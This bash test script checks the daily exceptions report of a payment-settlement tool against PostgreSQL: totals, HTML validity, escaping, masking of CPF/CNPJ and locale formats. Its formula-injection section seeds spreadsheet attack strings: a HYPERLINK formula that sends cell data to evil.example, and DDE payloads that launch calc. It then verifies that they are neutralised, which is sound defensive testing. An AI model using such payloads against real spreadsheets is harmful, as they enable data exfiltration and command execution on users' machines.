#!/usr/bin/env bash
# report.sh - settle report against a real PostgreSQL: totals equal SQL
# aggregates over the same rows, the HTML is valid and self-contained, data
# is escaped, CPF/CNPJ masked by default, pt_BR and C formats.
. "$(dirname "$0")/../lib.sh"
. "$T_TOP/tests/tools/pipeline.sh"

t_newdb
t_config "$T_TMP/settle.conf"
export SETTLE_CONFIG=$T_TMP/settle.conf
p_seed
p_csvdump
D=2026-11-28
rdir=$T_TMP/spool/reports

t_run out "$SETTLE" report --date $D
t_eq "report exits 0" 0 "$out_rc"
t_contains "report prints the workbook path" "$rdir/exceptions-20261128.xlsx" "$out"
t_contains "report prints the CSV path" "$rdir/exceptions-20261128.csv" "$out"
t_contains "report prints the HTML path" "$rdir/exceptions-20261128.html" "$out"
csv=$rdir/exceptions-20261128.csv
html=$rdir/exceptions-20261128.html

# What "open at the end of the day" means, as SQL.
OPEN="FROM exceptions e JOIN settlements s ON s.id = e.settlement_id
      WHERE e.created_at < '$D'::date + 1 AND (e.status = 'open' OR e.resolved_at >= '$D'::date + 1)"
# pt_BR money from cents, computed by PostgreSQL (not by settle's formatter).
brl() { echo "replace(to_char(($1)::bigint / 100, 'FM999,999,999,990'), ',', '.') || ',' || lpad((($1)::bigint % 100)::text, 2, '0')"; }
val() { grep -o "id=\"$1\">[^<]*" "$html" | sed 's/.*>//'; }
DAY="BETWEEN '$D'::timestamptz AND '$D'::timestamptz + interval '1 day' - interval '1 microsecond'"

# --- HTML: summary equals SQL aggregates
t_eq "files received" "$(t_sql "SELECT count(*) FROM return_files WHERE received_at $DAY")" "$(val files)"
t_eq "files rejected" "$(t_sql "SELECT count(*) FROM return_files WHERE status = 'rejected' AND received_at $DAY")" "$(val files-rejected)"
t_eq "settlements read" "$(t_sql "SELECT count(*) FROM settlements s JOIN return_files f ON f.id = s.file_id WHERE f.received_at $DAY")" "$(val settlements)"
t_eq "amount settled" "$(t_sql "SELECT $(brl 'sum(s.amount_paid_cents)') FROM settlements s JOIN return_files f ON f.id = s.file_id WHERE s.paid AND f.received_at $DAY")" "$(val settled)"
t_eq "payments paid" "$(t_sql "SELECT count(*) FROM settlement_status WHERE outcome = 'paid' AND reconciled_at $DAY")" "$(val payments-paid)"
t_eq "amount paid" "$(t_sql "SELECT $(brl 'sum(p.paid_cents)') FROM settlement_status s JOIN payments p ON p.paid_by_settlement = s.id WHERE s.outcome = 'paid' AND s.reconciled_at $DAY")" "$(val payments-paid-amount)"
t_eq "exceptions opened" "$(t_sql "SELECT count(*) FROM exceptions WHERE created_at $DAY")" "$(val exceptions-opened)"
t_eq "exceptions resolved" "$(t_sql "SELECT count(*) FROM exceptions WHERE resolved_at $DAY")" "$(val exceptions-resolved)"
t_eq "exceptions open at the end of the day" "$(t_sql "SELECT count(*) $OPEN")" "$(val exceptions-open)"

# --- HTML: totals by reason equal SQL GROUP BY
expect=$(t_sql "SELECT string_agg(reason || '=' || n || '/' || amt, ' ' ORDER BY reason) FROM
                  (SELECT e.reason, count(*) AS n, $(brl 'sum(coalesce(e.paid_cents, s.amount_paid_cents))') AS amt $OPEN GROUP BY e.reason) x")
found=$(grep -o '<tr id="reason-[A-Z_]*"><td>[A-Z_]*</td><td>[^<]*</td><td class="n">[0-9]*</td><td class="n">[0-9.,]*' "$html" |
        sed -E 's/.*reason-([A-Z_]*)".*<td class="n">([0-9]*)<\/td><td class="n">([0-9.,]*)$/\1=\2\/\3/' | sort | paste -sd' ')
t_eq "totals by reason equal SQL aggregates" "$expect" "$found"
t_contains "grand total" "<tr id=\"reason-total\"><th colspan=\"2\">Total</th><td class=\"n\">$(t_sql "SELECT count(*) $OPEN")</td><td class=\"n\">$(t_sql "SELECT $(brl 'sum(coalesce(e.paid_cents, s.amount_paid_cents))') $OPEN")</td>" "$(cat "$html")"
t_eq "one table row per open exception" "$(t_sql "SELECT count(*) $OPEN")" "$(grep -c '^<tr id="x[0-9]*" style="--a:[0-9]*;--g:[0-9]*">' "$html")"
t_not_contains "an exception resolved that day is not listed" "PIX_REFUND" "$(sed -n '/id="open"/,$p' "$html")"
t_not_contains "an exception opened the next day is not listed" "BANK_REJECTED" "$(cat "$html")"

# --- HTML: valid, self-contained, escaped
t_eq "xmllint --html reports no errors" "" "$(xmllint --html --noout "$html" 2>&1)"
t_eq "nothing to fetch: no src/href to another place, no script" "" \
  "$(grep -oiE '(src|href)="[^d"][^"]*"|<script|<link|@import|url\(' "$html" || true)"
svg=$(grep -o 'data:image/svg+xml;base64,[^"]*' "$html" | sed 's/^data:image\/svg+xml;base64,//' | base64 -d)
t_eq "the bar chart is well-formed SVG" "" "$(xmllint --noout - <<<"$svg" 2>&1)"
t_eq "one bar per reason with open exceptions" "$(t_sql "SELECT count(DISTINCT reason) $OPEN")" "$(grep -o '<rect ' <<<"$svg" | wc -l)"
t_contains "file names are escaped" "ITAU&lt;28&gt;&amp;.RET:30" "$(cat "$html")"
t_not_contains "no raw markup from the data" "ITAU<28>" "$(cat "$html")"
t_contains "detail in Portuguese with amounts in R\$" "Pago R\$ 1.000,00, esperado R\$ 3.457,59: faltam R\$ 2.457,59." "$(cat "$html")"
t_contains "candidates in Portuguese" "Pagamentos candidatos: 30, 31." "$(cat "$html")"
t_not_contains "no English detail reaches finance" "no payment for" "$(cat "$html")"
t_not_contains "no raw cents in the detail" "candidates" "$(cat "$html")"
t_contains "suggested action per reason" "Devolver o excedente ao cliente" "$(cat "$html")"
t_contains "age in days and its bucket" '<td class="n" data-l="Idade (dias)">8<br><span class="s">8 a 30 dias</span>' "$(cat "$html")"
t_contains "bank code and name" '<span class="s">banco</span> 341 Itaú' "$(cat "$html")"
t_contains "end-to-end id for a Pix refund" '<span class="s">E2E</span> E0000000020261128120000000000026' "$(cat "$html")"

# --- masking
t_contains "CPF masked in HTML" "***.456.789-**" "$(cat "$html")"
t_contains "CNPJ masked in HTML" "**.345.678/0001-**" "$(cat "$html")"
t_not_contains "no full CPF in HTML" "12345678928" "$(cat "$html")"
t_not_contains "no formatted CPF in HTML" "123.456.789-28" "$(cat "$html")"
t_not_contains "no full CPF in CSV" "123.456.789-28" "$(cat "$csv")"

# --- CSV pt_BR: BOM, ';', decimal comma, DD/MM/YYYY, totals
t_eq "CSV starts with a UTF-8 BOM" "efbbbf" "$(head -c 3 "$csv" | od -An -tx1 | tr -d ' \n')"
rows=$(tail -c +4 "$csv" | "$CSVDUMP" ';')
t_eq "CSV parses with ';' (libcsv)" 0 "$?"
t_eq "CSV has one row per open exception" "$(t_sql "SELECT count(*) $OPEN")" "$(($(wc -l <<<"$rows") - 1))"
t_eq "CSV header: the workbook's columns, acao nota pagamento_id last" "id	motivo	descricao	pagamento	pedido	cliente	documento	metodo	banco	banco_nome	nosso_numero	txid	end_to_end_id	vencimento	data_pagamento	data_credito	valor_esperado	valor_pago	diferenca	tarifa	valor_creditado	arquivo	linha	aberta_em	idade_dias	faixa_idade	acao_sugerida	detalhe	acao	nota	pagamento_id" "$(head -n 1 <<<"$rows")"
t_eq "CSV paid amounts sum to the SQL total" "$(t_sql "SELECT sum(coalesce(e.paid_cents, s.amount_paid_cents)) $OPEN")" \
  "$(tail -n +2 <<<"$rows" | awk -F'\t' '{ v = $18; sub(",", "", v); s += v } END { print s }')"
t_eq "CSV underpaid row in pt_BR" "3;UNDERPAID;20/11/2026;8;***.456.789-**;3457,59;1000,00;-2457,59;ITAU<28>&.RET;30;8 a 30 dias" \
  "$(awk -F'\t' '$1 == 3 { print $1 ";" $2 ";" $24 ";" $25 ";" $7 ";" $17 ";" $18 ";" $19 ";" $22 ";" $23 ";" $26 }' <<<"$rows")"
t_eq "CSV pt_BR: codes of digits as text constants (zeros kept in a spreadsheet)" '="341";="00000000000000027";ORD-1027' \
  "$(awk -F'\t' '$1 == 2 { print $9 ";" $11 ";" $5 }' <<<"$rows")"
t_eq "CSV: acao, nota, pagamento_id empty" ";;" "$(awk -F'\t' '$1 == 4 { print $29 ";" $30 ";" $31 }' <<<"$rows")"

# --- --unmask
t_run out "$SETTLE" report --date $D --unmask --output "$T_TMP/unmasked"
t_eq "report --unmask exits 0" 0 "$out_rc"
t_contains "--unmask shows the CPF in HTML" "123.456.789-28" "$(cat "$T_TMP/unmasked/exceptions-20261128.html")"
t_contains "--unmask shows the CNPJ in CSV" "12.345.678/0001-27" "$(cat "$T_TMP/unmasked/exceptions-20261128.csv")"
t_eq "--unmask report is valid HTML too" "" "$(xmllint --html --noout "$T_TMP/unmasked/exceptions-20261128.html" 2>&1)"

# --- --locale C
t_run out "$SETTLE" report --date $D --locale C --output "$T_TMP/c"
t_eq "report --locale C exits 0" 0 "$out_rc"
ccsv=$T_TMP/c/exceptions-20261128.csv
t_eq "C CSV has no BOM" '"id"' "$(head -c 4 "$ccsv")"
crow=$("$CSVDUMP" ',' <"$ccsv" | awk -F'\t' '$1 == 3 { print $24 ";" $17 ";" $18 ";" $9 }')
t_eq "C CSV uses ',' separators, dots, ISO dates, codes as they are" "2026-11-20;3457.59;1000.00;260" "$crow"
t_contains "C HTML groups with commas" "$(t_sql "SELECT to_char(sum(s.amount_paid_cents)::bigint / 100, 'FM999,999,990') || '.' || lpad((sum(s.amount_paid_cents)::bigint % 100)::text, 2, '0') FROM settlements s JOIN return_files f ON f.id = s.file_id WHERE s.paid AND f.received_at $DAY")" \
  "$(cat "$T_TMP/c/exceptions-20261128.html")"

# --- formula injection (OWASP): names from payments and bank files that a
# spreadsheet would run are written with a leading apostrophe; our numbers,
# negative ones included, stay numbers.
t_sql "WITH x AS (SELECT e.id, e.payment_id, e.settlement_id, row_number() OVER (ORDER BY e.id) AS k $OPEN),
            n AS (SELECT x.*, (ARRAY['=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")', '+cmd|'' /C calc''!A0',
                                     '-2+3+cmd|'' /C calc''!A0', '@SUM(1+1)*cmd|'' /C calc''!A0'])[k] AS name
                    FROM x WHERE k <= 4),
            p AS (UPDATE payments SET customer_name = n.name FROM n WHERE payments.id = n.payment_id RETURNING 1)
       UPDATE settlements SET payer_name = n.name FROM n WHERE settlements.id = n.settlement_id AND n.payment_id IS NULL" >/dev/null
neg=$(t_sql "SELECT max(e.id) $OPEN")
t_sql "UPDATE exceptions SET paid_cents = -1234 WHERE id = $neg" >/dev/null
t_run out "$SETTLE" report --date $D --output "$T_TMP/formula"
t_eq "report with formula names exits 0" 0 "$out_rc"
frows=$(tail -c +4 "$T_TMP/formula/exceptions-20261128.csv" | "$CSVDUMP" ';')
fnames=$(awk -F'\t' 'NR > 1 { print $6 }' <<<"$frows")
for n in "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")" "'+cmd|' /C calc'!A0" "'-2+3+cmd|' /C calc'!A0" "'@SUM(1+1)*cmd|' /C calc'!A0"; do
  t_eq "formula name written as text: $n" "1" "$(grep -cxF -- "$n" <<<"$fnames")"
done
t_eq "no cell of the CSV starts with = + - @ but our numbers and our =\"digits\" codes" "" \
  "$(awk -F'\t' 'NR > 1 { for (i = 1; i <= NF; i++) if ($i ~ /^[=+@-]/ && $i !~ /^-[0-9]+,[0-9][0-9]$/ && $i !~ /^="[0-9]+"$/) print i ": " $i }' <<<"$frows")"
t_eq "a negative amount stays a number" "-12,34" "$(awk -F'\t' -v id="$neg" '$1 == id { print $18 }' <<<"$frows")"
ccsv2=$("$SETTLE" report --date $D --locale C --output "$T_TMP/formula-c" >/dev/null 2>&1 && "$CSVDUMP" ',' <"$T_TMP/formula-c/exceptions-20261128.csv")
t_eq "C locale: a negative amount stays a number" "-12.34" "$(awk -F'\t' -v id="$neg" '$1 == id { print $18 }' <<<"$ccsv2")"
t_contains "C locale: formula names start with an apostrophe" "'=HYPERLINK(" "$ccsv2"
t_contains "the HTML shows the name as it is (escaped, no apostrophe)" "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" \
  "$(cat "$T_TMP/formula/exceptions-20261128.html")"

# --- a day with nothing, and bad arguments
t_run out "$SETTLE" report --date 2026-01-01 --output "$T_TMP/empty"
t_eq "empty day exits 0" 0 "$out_rc"
t_contains "empty day says so" "Nenhuma exceção em aberto" "$(cat "$T_TMP/empty/exceptions-20260101.html")"
t_eq "empty day is valid HTML" "" "$(xmllint --html --noout "$T_TMP/empty/exceptions-20260101.html" 2>&1)"
t_run out "$SETTLE" report --date 2026-02-30
t_eq "impossible date exits 64" 64 "$out_rc"
t_contains "impossible date named" "--date: expected YYYY-MM-DD, found '2026-02-30'" "$out"
t_run out "$SETTLE" report --locale fr_FR
t_eq "unknown locale exits 64" 64 "$out_rc"

t_done
